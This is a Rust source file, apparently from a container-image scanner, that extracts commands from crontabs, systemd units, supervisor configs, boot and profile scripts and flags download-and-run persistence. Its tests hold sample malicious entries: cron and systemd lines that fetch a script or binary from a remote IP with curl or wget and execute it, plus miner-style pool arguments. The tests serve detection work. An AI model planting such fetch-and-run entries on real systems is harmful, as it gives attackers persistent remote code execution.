//! Script analyzer: what an image would run lives in more places than its start command.
//! This analyzer reads the files whose text is commands and splits them into the simple
//! commands they run, each with its line:
//!
//! | file (layer path) | kind | what is a command |
//! |---|---|---|
//! | text starting `#!` naming a shell, or `*.sh` | [`ScriptKind::Shell`] | every command of the script |
//! | `etc/crontab`, `etc/cron.d/*`, `var/spool/cron/**` | [`ScriptKind::Crontab`] | the command field of each entry (`%` ends it) |
//! | `etc/cron.{hourly,daily,weekly,monthly}/*` | [`ScriptKind::CronScript`] | the script (run-parts runs it) |
//! | `*.service` under `etc/`, `lib/`, `usr/lib/` systemd dirs and `~/.config/systemd/user/` | [`ScriptKind::SystemdUnit`] | `ExecStart*=`, `ExecStop*=`, `ExecReload=`, `ExecCondition=` values |
//! | `etc/supervisord.conf`, `etc/supervisor/**`, `etc/supervisord.d/*` | [`ScriptKind::Supervisor`] | `command=` values |
//! | `etc/rc.local`, `etc/init.d/*` | [`ScriptKind::RcScript`] | the script |
//! | `etc/profile`, `etc/profile.d/*`, `etc/bash.bashrc`, `~/.bashrc`, `~/.profile`, ... of root and every home | [`ScriptKind::Profile`] | the script |
//!
//! For each such file it keeps [`ScriptFacts`] (its kind and commands, bounded) for the
//! image-level steps, which follow the start command through the scripts it runs
//! (`runs.rs`) and turn their commands into UDM events for the YARA-L rules. At the file
//! itself it judges the commands by what they do (`crate::behaviour`) and flags
//! persistence: a cron entry, unit, supervisor program, rc or profile script that downloads
//! and runs something is `IMG-PERSISTENCE`.
//!
//! Bounds: a file is read for this up to [`MAX_SCRIPT_BYTES`] (a longer one is judged on
//! that prefix and marked truncated); at most [`MAX_COMMANDS_KEPT`] commands are kept per
//! file and [`MAX_LAYER_COMMAND_BYTES`] bytes of command text per layer (past that the
//! facts record how many files were dropped and the scan says it is incomplete).

use super::{Analyzer, FileCtx, LayerFacts, Signal, SignalKind, Subject};
use crate::behaviour::BehaviourKind;
use crate::image::EntryKind;
use crate::shell::{self, Sep, ShellCommand};
use crate::signatures::Signatures;
use serde::Serialize;
use std::sync::Arc;

/// Bytes of one file read as commands.
pub const MAX_SCRIPT_BYTES: usize = 1 << 20;
/// Commands kept per file for the image-level steps.
pub const MAX_COMMANDS_KEPT: usize = 2_000;
/// Command text kept per layer, in bytes.
pub const MAX_LAYER_COMMAND_BYTES: usize = 16 << 20;

/// What kind of file holds the commands, which also says who runs them.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ScriptKind {
    /// A shell script (run when something runs it).
    Shell,
    /// A crontab (cron runs each entry).
    Crontab,
    /// A script in `/etc/cron.*ly/` (run-parts runs it).
    CronScript,
    /// A systemd service unit.
    SystemdUnit,
    /// A supervisord program section.
    Supervisor,
    /// `/etc/rc.local` or an `/etc/init.d/` script (run at boot).
    RcScript,
    /// A login or interactive shell's start-up file (`/etc/profile`, `~/.bashrc`, ...).
    Profile,
}

impl ScriptKind {
    /// Files the system runs by itself (cron, init, a login shell), as opposed to a script
    /// that only runs when something else runs it.
    pub fn is_persistence(self) -> bool {
        self != ScriptKind::Shell
    }

    /// How the file is named in findings and events.
    pub fn as_str(self) -> &'static str {
        match self {
            ScriptKind::Shell => "script",
            ScriptKind::Crontab => "crontab",
            ScriptKind::CronScript => "cron script",
            ScriptKind::SystemdUnit => "systemd unit",
            ScriptKind::Supervisor => "supervisord program",
            ScriptKind::RcScript => "boot script",
            ScriptKind::Profile => "shell start-up file",
        }
    }

    /// `metadata.product_event_type` of the events derived from its commands.
    pub fn event_type(self) -> &'static str {
        match self {
            ScriptKind::Shell => "image.script",
            ScriptKind::Crontab | ScriptKind::CronScript => "image.cron",
            ScriptKind::SystemdUnit => "image.systemd",
            ScriptKind::Supervisor => "image.supervisor",
            ScriptKind::RcScript => "image.boot",
            ScriptKind::Profile => "image.profile",
        }
    }

    /// ATT&CK technique of persistence through this kind of file.
    pub fn attack(self) -> &'static str {
        match self {
            ScriptKind::Crontab | ScriptKind::CronScript => "T1053.003",
            ScriptKind::SystemdUnit => "T1543.002",
            ScriptKind::RcScript => "T1037.004",
            ScriptKind::Profile => "T1546.004",
            ScriptKind::Supervisor | ScriptKind::Shell => "T1059.004",
        }
    }
}

/// What a script-like file runs.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, serde::Deserialize)]
pub struct ScriptFacts {
    /// Path in the layer.
    pub path: String,
    pub kind: ScriptKind,
    /// Its commands, in order (at most [`MAX_COMMANDS_KEPT`]).
    pub commands: Vec<ShellCommand>,
    /// Not every command was kept (the file was longer than [`MAX_SCRIPT_BYTES`], had more
    /// commands than kept, or the layer's budget was spent).
    pub truncated: bool,
}

/// Which kind of command file `path` (layer path, no leading `/`) is by its place alone.
pub fn kind_by_path(path: &str) -> Option<ScriptKind> {
    let base = path.rsplit('/').next().unwrap_or(path);
    if base.starts_with('.') && !is_home_rc(path) {
        // `.placeholder`, editor backups: never run by cron or init.
        return None;
    }
    let dir = path.rsplit_once('/').map_or("", |(d, _)| d);
    if path == "etc/crontab"
        || dir == "etc/cron.d"
        || dir == "var/spool/cron"
        || dir.starts_with("var/spool/cron/")
    {
        return Some(ScriptKind::Crontab);
    }
    if matches!(
        dir,
        "etc/cron.hourly" | "etc/cron.daily" | "etc/cron.weekly" | "etc/cron.monthly"
    ) {
        return Some(ScriptKind::CronScript);
    }
    if base.ends_with(".service")
        && (path.starts_with("etc/systemd/")
            || path.starts_with("lib/systemd/")
            || path.starts_with("usr/lib/systemd/")
            || path.contains("/.config/systemd/user/"))
    {
        return Some(ScriptKind::SystemdUnit);
    }
    if path == "etc/supervisord.conf"
        || path.starts_with("etc/supervisor/")
        || dir == "etc/supervisord.d"
    {
        return Some(ScriptKind::Supervisor);
    }
    if path == "etc/rc.local" || dir == "etc/init.d" {
        return Some(ScriptKind::RcScript);
    }
    if path == "etc/profile"
        || dir == "etc/profile.d"
        || path == "etc/bash.bashrc"
        || path == "etc/bashrc"
        || is_home_rc(path)
    {
        return Some(ScriptKind::Profile);
    }
    None
}

/// `root/.bashrc`, `home/u/.profile` and the like.
fn is_home_rc(path: &str) -> bool {
    let (home, base) = match path.rsplit_once('/') {
        Some(x) => x,
        None => return false,
    };
    let is_home = home == "root" || (home.starts_with("home/") && !home[5..].contains('/'));
    is_home
        && matches!(
            base,
            ".bashrc" | ".profile" | ".bash_profile" | ".bash_login" | ".zshrc" | ".kshrc"
        )
}

/// A text file that is a shell script by its first line or name.
pub fn is_shell_script(path: &str, head: &[u8]) -> bool {
    if let Some(rest) = head.strip_prefix(b"#!") {
        let first = rest.split(|&b| b == b'\n').next().unwrap_or(b"");
        let first = String::from_utf8_lossy(first);
        let mut words = first.split_whitespace();
        let mut prog = words.next().unwrap_or("");
        if prog.ends_with("/env") {
            prog = words.find(|w| !w.starts_with('-')).unwrap_or("");
        }
        let base = prog.rsplit('/').next().unwrap_or(prog);
        return matches!(
            base,
            "sh" | "bash" | "dash" | "ash" | "zsh" | "ksh" | "mksh" | "busybox"
        );
    }
    path.ends_with(".sh")
}

/// The commands of a crontab: the command field of each entry (after five time fields or
/// an `@` keyword, and a user field in system crontabs), cut at the first unescaped `%`.
pub fn crontab_commands(text: &str, system: bool) -> Vec<ShellCommand> {
    let mut out = Vec::new();
    for (i, raw) in text.lines().enumerate() {
        let line = raw.trim();
        if line.is_empty() || line.starts_with('#') || is_assignment(line) {
            continue;
        }
        let fields = if line.starts_with('@') { 1 } else { 5 } + usize::from(system);
        let Some(cmd) = after_fields(line, fields) else {
            continue;
        };
        let cmd = cut_percent(cmd);
        push_commands(&mut out, cmd, (i + 1) as u32);
        if out.len() >= MAX_COMMANDS_KEPT {
            break;
        }
    }
    out
}

/// The commands of a systemd unit's `Exec*=` lines or a supervisord `command=` line.
pub fn key_value_commands(text: &str, keys: &[&str]) -> Vec<ShellCommand> {
    let mut out = Vec::new();
    let mut lines = text.lines().enumerate().peekable();
    while let Some((i, raw)) = lines.next() {
        let line = raw.trim();
        let Some((k, v)) = line.split_once('=') else {
            continue;
        };
        if !keys.contains(&k.trim()) {
            continue;
        }
        // A trailing backslash continues the value on the next line.
        let mut value = v.trim().to_string();
        while value.ends_with('\\') && value.len() < MAX_SCRIPT_BYTES {
            value.pop();
            match lines.next() {
                Some((_, next)) => {
                    value.push(' ');
                    value.push_str(next.trim());
                }
                None => break,
            }
        }
        // systemd's prefixes: `-` ignore failure, `@` argv0, `:` `+` `!` privileges.
        let value = value.trim_start_matches(['-', '@', ':', '+', '!']);
        push_commands(&mut out, value, (i + 1) as u32);
        if out.len() >= MAX_COMMANDS_KEPT {
            break;
        }
    }
    out
}

/// One command line as an argv (a unit's or supervisor's value, a cron command): a
/// `sh -c SCRIPT` is split into the script's commands, all on `line`.
fn push_commands(out: &mut Vec<ShellCommand>, cmd: &str, line: u32) {
    let cmd = cmd.trim();
    if cmd.is_empty() {
        return;
    }
    let first = out.len();
    let argv = shell::words(cmd);
    match shell::shell_script(&argv) {
        Some(script) => out.extend(shell::script_commands(script)),
        None => out.extend(shell::script_commands(cmd)),
    }
    for (k, c) in out[first..].iter_mut().enumerate() {
        c.line = line;
        if k == 0 {
            c.after = Sep::Seq;
        }
    }
}

fn is_assignment(line: &str) -> bool {
    let name_end = line
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(line.len());
    name_end > 0 && line[name_end..].trim_start().starts_with('=')
}

/// The rest of `line` after `n` whitespace-separated fields.
fn after_fields(line: &str, n: usize) -> Option<&str> {
    let mut rest = line;
    for _ in 0..n {
        rest = rest.trim_start();
        let end = rest.find([' ', '\t'])?;
        rest = &rest[end..];
    }
    let rest = rest.trim();
    (!rest.is_empty()).then_some(rest)
}

/// A cron command ends at the first `%` not escaped with `\` (the rest is its stdin).
fn cut_percent(cmd: &str) -> &str {
    let b = cmd.as_bytes();
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'\\' => i += 2,
            b'%' => return &cmd[..i],
            _ => i += 1,
        }
    }
    cmd
}

/// The commands of a file of `kind` with `text`.
pub fn commands_of(kind: ScriptKind, path: &str, text: &str) -> Vec<ShellCommand> {
    let mut c = match kind {
        ScriptKind::Crontab => {
            // Per-user crontabs have no user field; /etc/crontab and cron.d have one.
            let system = !path.starts_with("var/spool/cron");
            crontab_commands(text, system)
        }
        ScriptKind::SystemdUnit => key_value_commands(
            text,
            &[
                "ExecStart",
                "ExecStartPre",
                "ExecStartPost",
                "ExecReload",
                "ExecStop",
                "ExecStopPost",
                "ExecCondition",
            ],
        ),
        ScriptKind::Supervisor => key_value_commands(text, &["command"]),
        _ => shell::script_commands(text),
    };
    c.truncate(MAX_COMMANDS_KEPT);
    c
}

/// The script analyzer (see the module doc).
pub struct ScriptAnalyzer {
    sigs: Arc<Signatures>,
    kind: Option<ScriptKind>,
    buf: Vec<u8>,
    over: bool,
    facts: Vec<ScriptFacts>,
    kept_bytes: usize,
    dropped: u64,
}

impl ScriptAnalyzer {
    pub fn new(sigs: Arc<Signatures>) -> Self {
        ScriptAnalyzer {
            sigs,
            kind: None,
            buf: Vec::new(),
            over: false,
            facts: Vec::new(),
            kept_bytes: 0,
            dropped: 0,
        }
    }

    /// Signals about one file's commands (`run`: the system runs the file by itself).
    /// Signals about one file's commands: what they do (`crate::behaviour`, judged once per
    /// sequence that runs together: one cron entry, or the whole script or unit), and
    /// persistence when a file the system runs by itself fetches code and runs it.
    fn judge(&self, kind: ScriptKind, cmds: &[ShellCommand], subject: &Subject) -> Vec<Signal> {
        // Each cron entry runs on its own; a unit's Exec lines run in turn, like a script.
        let per_line = kind == ScriptKind::Crontab;
        let groups: Vec<&[ShellCommand]> = if per_line {
            cmds.chunk_by(|a, b| a.line == b.line).collect()
        } else {
            vec![cmds]
        };
        let mut out = Vec::new();
        for g in groups {
            let found = crate::behaviour::judge(&self.sigs.behaviour, g);
            if kind.is_persistence() {
                if let Some(b) = found.iter().find(|b| {
                    matches!(
                        b.kind,
                        BehaviourKind::FetchExec | BehaviourKind::MinerDownload
                    )
                }) {
                    out.push(Signal {
                        subject: subject.clone(),
                        kind: SignalKind::Persistence(kind),
                        signature: format!(
                            "persistence:{}-download-run",
                            kind.event_type().trim_start_matches("image.")
                        ),
                        offset: None,
                        line: b.line,
                        excerpt: b.excerpt.clone(),
                    });
                }
            }
            out.extend(crate::behaviour::signals(found, subject, false));
        }
        out
    }
}

impl Analyzer for ScriptAnalyzer {
    fn name(&self) -> &'static str {
        "script"
    }
    fn file_start(&mut self, file: &FileCtx) -> bool {
        self.buf.clear();
        self.over = false;
        self.kind = None;
        let e = file.entry;
        if e.kind != EntryKind::File || file.head.is_empty() || !file.inside.is_empty() {
            return false;
        }
        if !file.is_text() {
            return false;
        }
        self.kind = kind_by_path(&e.path)
            .or_else(|| is_shell_script(&e.path, file.head).then_some(ScriptKind::Shell));
        self.kind.is_some()
    }
    fn file_chunk(&mut self, data: &[u8], _offset: u64) {
        if self.kind.is_none() {
            return;
        }
        let room = MAX_SCRIPT_BYTES - self.buf.len();
        if data.len() > room {
            self.over = true;
        }
        self.buf.extend_from_slice(&data[..data.len().min(room)]);
    }
    fn file_end(&mut self, file: &FileCtx, truncated: bool, out: &mut Vec<Signal>) {
        let Some(kind) = self.kind.take() else {
            return;
        };
        let text = String::from_utf8_lossy(&self.buf).into_owned();
        let path = file.entry.path.clone();
        let mut commands = commands_of(kind, &path, &text);
        let subject = file.subject();
        out.extend(self.judge(kind, &commands, &subject));
        let mut cut = truncated || self.over;
        let bytes: usize = commands.iter().map(|c| c.text.len() + 32).sum();
        if self.kept_bytes + bytes > MAX_LAYER_COMMAND_BYTES {
            commands.clear();
            cut = true;
            self.dropped += 1;
        } else {
            self.kept_bytes += bytes;
        }
        self.facts.push(ScriptFacts {
            path,
            kind,
            commands,
            truncated: cut,
        });
        self.buf.clear();
        if self.buf.capacity() > MAX_SCRIPT_BYTES {
            self.buf.shrink_to(MAX_SCRIPT_BYTES);
        }
    }
    fn facts(&mut self, out: &mut LayerFacts) {
        out.scripts.append(&mut self.facts);
        out.scripts_dropped += std::mem::take(&mut self.dropped);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(c: &[ShellCommand]) -> Vec<(u32, String)> {
        c.iter().map(|c| (c.line, c.words.join(" "))).collect()
    }

    #[test]
    fn kinds_by_path() {
        let k = |p| kind_by_path(p);
        assert_eq!(k("etc/crontab"), Some(ScriptKind::Crontab));
        assert_eq!(k("etc/cron.d/e2scrub_all"), Some(ScriptKind::Crontab));
        assert_eq!(k("etc/cron.d/.placeholder"), None);
        assert_eq!(k("var/spool/cron/crontabs/root"), Some(ScriptKind::Crontab));
        assert_eq!(k("etc/cron.daily/apt-compat"), Some(ScriptKind::CronScript));
        assert_eq!(
            k("usr/lib/systemd/system/cron.service"),
            Some(ScriptKind::SystemdUnit)
        );
        assert_eq!(
            k("etc/systemd/system/multi-user.target.wants/x.service"),
            Some(ScriptKind::SystemdUnit)
        );
        assert_eq!(k("usr/share/doc/x/example.service"), None);
        assert_eq!(
            k("etc/supervisor/conf.d/app.conf"),
            Some(ScriptKind::Supervisor)
        );
        assert_eq!(k("etc/rc.local"), Some(ScriptKind::RcScript));
        assert_eq!(k("etc/init.d/ssh"), Some(ScriptKind::RcScript));
        assert_eq!(k("etc/profile.d/x.sh"), Some(ScriptKind::Profile));
        assert_eq!(k("root/.bashrc"), Some(ScriptKind::Profile));
        assert_eq!(k("home/app/.profile"), Some(ScriptKind::Profile));
        assert_eq!(k("home/app/sub/.profile"), None);
        assert_eq!(k("usr/bin/x"), None);
        assert!(is_shell_script("usr/bin/x", b"#!/bin/sh\nexit 0\n"));
        assert!(is_shell_script("x", b"#!/usr/bin/env bash\n"));
        assert!(!is_shell_script("x", b"#!/usr/bin/python3\n"));
        assert!(is_shell_script("opt/run.sh", b"echo hi\n"));
    }

    #[test]
    fn crontab_entries_are_commands_with_lines() {
        let t = "SHELL=/bin/sh\n# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n@reboot root /opt/x.sh\n*/5 * * * * root curl -fsSL http://h/x | sh %stdin\n";
        assert_eq!(
            words(&crontab_commands(t, true)),
            [
                (3, "cd /".into()),
                (3, "run-parts --report /etc/cron.hourly".into()),
                (4, "/opt/x.sh".into()),
                (5, "curl -fsSL http://h/x".into()),
                (5, "sh".into()),
            ]
        );
        // A user crontab has no user field.
        assert_eq!(
            words(&crontab_commands(
                "* * * * * /tmp/.x/run -o p:3333\n",
                false
            )),
            [(1, "/tmp/.x/run -o p:3333".into())]
        );
    }

    #[test]
    fn unit_and_supervisor_values_are_commands() {
        let unit = "[Service]\nExecStartPre=-/bin/mkdir -p /run/x\nExecStart=/bin/sh -c 'wget -q -O /tmp/k http://h/k; chmod +x /tmp/k; /tmp/k'\nExecReload=/bin/kill -HUP $MAINPID\nRestart=always\n";
        assert_eq!(
            words(&commands_of(
                ScriptKind::SystemdUnit,
                "etc/systemd/system/x.service",
                unit
            )),
            [
                (2, "/bin/mkdir -p /run/x".into()),
                (3, "wget -q -O /tmp/k http://h/k".into()),
                (3, "chmod +x /tmp/k".into()),
                (3, "/tmp/k".into()),
                (4, "/bin/kill -HUP $MAINPID".into()),
            ]
        );
        let sup = "[program:app]\ncommand=/usr/local/bin/app --threads 4 \\\n  -o pool:3333\nautorestart=true\n";
        assert_eq!(
            words(&commands_of(
                ScriptKind::Supervisor,
                "etc/supervisor/conf.d/a.conf",
                sup
            )),
            [(2, "/usr/local/bin/app --threads 4 -o pool:3333".into())]
        );
    }

    fn run_file(path: &str, text: &str) -> (Vec<Signal>, LayerFacts) {
        let mut a = ScriptAnalyzer::new(Arc::new(Signatures::embedded().unwrap()));
        let entry = crate::image::FileEntry {
            layer: 1,
            layer_digest: "sha256:1".into(),
            path: path.into(),
            kind: EntryKind::File,
            mode: 0o755,
            size: text.len() as u64,
            link_target: None,
            hidden_by: None,
        };
        let ctx = FileCtx {
            entry: &entry,
            inside: &[],
            head: text.as_bytes(),
        };
        let mut out = Vec::new();
        if a.file_start(&ctx) {
            a.file_chunk(text.as_bytes(), 0);
        }
        a.file_end(&ctx, false, &mut out);
        let mut facts = LayerFacts::default();
        a.facts(&mut facts);
        (out, facts)
    }

    #[test]
    fn a_cron_entry_that_downloads_and_runs_is_persistence() {
        let (s, facts) = run_file(
            "etc/cron.d/sys",
            "*/10 * * * * root (curl -fsSL http://198.51.100.7/ldr.sh || wget -q -O- http://198.51.100.7/ldr.sh) | sh\n",
        );
        let p: Vec<&Signal> = s
            .iter()
            .filter(|s| matches!(s.kind, SignalKind::Persistence(_)))
            .collect();
        assert_eq!(p.len(), 1, "{s:?}");
        assert_eq!(p[0].line, Some(1));
        assert_eq!(p[0].signature, "persistence:cron-download-run");
        assert_eq!(facts.scripts.len(), 1);
        assert_eq!(facts.scripts[0].kind, ScriptKind::Crontab);
        // Debian's own cron entries and an ordinary script: no persistence signal.
        for (p, t) in [
            ("etc/crontab", "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n"),
            ("etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n"),
            ("opt/install.sh", "#!/bin/sh\ncurl -fsSL http://h/x | sh\n"),
        ] {
            let (s, _) = run_file(p, t);
            assert!(
                !s.iter().any(|s| matches!(s.kind, SignalKind::Persistence(_))),
                "{p}: {s:?}"
            );
        }
    }

    #[test]
    fn binaries_and_big_files_are_bounded() {
        let (s, f) = run_file("etc/cron.d/x", "\0\0\0binary");
        assert!(s.is_empty() && f.scripts.is_empty());
        let big = format!("#!/bin/sh\n{}", "echo a\n".repeat(MAX_SCRIPT_BYTES / 4));
        let mut a = ScriptAnalyzer::new(Arc::new(Signatures::embedded().unwrap()));
        let entry = crate::image::FileEntry {
            layer: 0,
            layer_digest: "sha256:0".into(),
            path: "opt/big.sh".into(),
            kind: EntryKind::File,
            mode: 0o755,
            size: big.len() as u64,
            link_target: None,
            hidden_by: None,
        };
        let ctx = FileCtx {
            entry: &entry,
            inside: &[],
            head: &big.as_bytes()[..8192],
        };
        assert!(a.file_start(&ctx));
        for c in big.as_bytes().chunks(1 << 16) {
            a.file_chunk(c, 0);
        }
        a.file_end(&ctx, false, &mut Vec::new());
        let mut facts = LayerFacts::default();
        a.facts(&mut facts);
        assert!(facts.scripts[0].truncated);
        assert_eq!(facts.scripts[0].commands.len(), MAX_COMMANDS_KEPT);
    }
}
